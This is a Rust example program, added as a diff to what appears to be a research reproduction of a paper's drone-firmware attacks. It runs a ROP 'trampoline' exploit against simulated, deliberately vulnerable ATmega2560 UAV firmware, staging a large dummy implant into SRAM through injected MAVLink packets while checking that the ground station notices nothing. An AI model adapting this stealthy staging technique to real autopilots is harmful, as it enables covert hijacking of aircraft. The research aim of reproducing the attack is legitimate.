@@ -1,0 +1,75 @@
+//! Attack V3 (§IV-E): the trampoline technique. Clean-return carrier
+//! packets stage an arbitrarily large second-stage chain into free SRAM;
+//! a final packet pivots onto it, runs it, repairs the stack and resumes —
+//! the payload size is "bounded only by the amount of free memory".
+//!
+//! ```text
+//! cargo run --example trampoline_attack
+//! ```
+
+use mavr_repro::avr_sim::Machine;
+use mavr_repro::mavlink_lite::GroundStation;
+use mavr_repro::rop::attack::AttackContext;
+use mavr_repro::synth_firmware::{apps, build, BuildOptions};
+
+fn main() {
+    let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
+    let mut uav = Machine::new_atmega2560();
+    uav.load_flash(0, &fw.image.bytes);
+    uav.run(200_000);
+
+    let ctx = AttackContext::discover(&fw.image).unwrap();
+
+    // A payload far too large for one packet's in-buffer chain: write a
+    // 90-byte "implant" into free SRAM at 0x1d00.
+    let implant: Vec<u8> = (0..90u8).map(|i| i.wrapping_mul(7).wrapping_add(1)).collect();
+    let dest = 0x1d00u16;
+    let writes: Vec<(u16, [u8; 3])> = implant
+        .chunks(3)
+        .enumerate()
+        .map(|(i, c)| (dest + (i * 3) as u16, [c[0], c[1], c[2]]))
+        .collect();
+    println!(
+        "implant: {} bytes = {} write gadget-invocations — far beyond one packet's chain budget",
+        implant.len(),
+        writes.len()
+    );
+
+    let packets = ctx.v3_packets(&writes, 0x1400).unwrap();
+    println!(
+        "trampoline plan: {} carrier packets (clean return each) + 1 trigger packet",
+        packets.len() - 1
+    );
+
+    let mut gcs = GroundStation::new();
+    for (i, p) in packets.iter().enumerate() {
+        uav.uart0.inject(&gcs.exploit_packet(p).unwrap());
+        uav.run(2_500_000);
+        assert!(
+            uav.fault().is_none(),
+            "packet {i}: the board must keep flying (fault: {:?})",
+            uav.fault()
+        );
+    }
+
+    let planted = uav.peek_range(dest, implant.len());
+    println!(
+        "implant at {dest:#x}: {} / {} bytes correct",
+        planted
+            .iter()
+            .zip(&implant)
+            .filter(|(a, b)| a == b)
+            .count(),
+        implant.len()
+    );
+    gcs.ingest(&uav.uart0.take_tx());
+    println!(
+        "ground station saw {} heartbeats, {} checksum errors — nothing amiss",
+        gcs.heartbeats.len(),
+        gcs.bad_checksums()
+    );
+
+    assert_eq!(planted, implant);
+    assert!(gcs.link_alive(20, 3));
+    println!("\nok: arbitrarily large payload staged and executed, stealth preserved");
+}
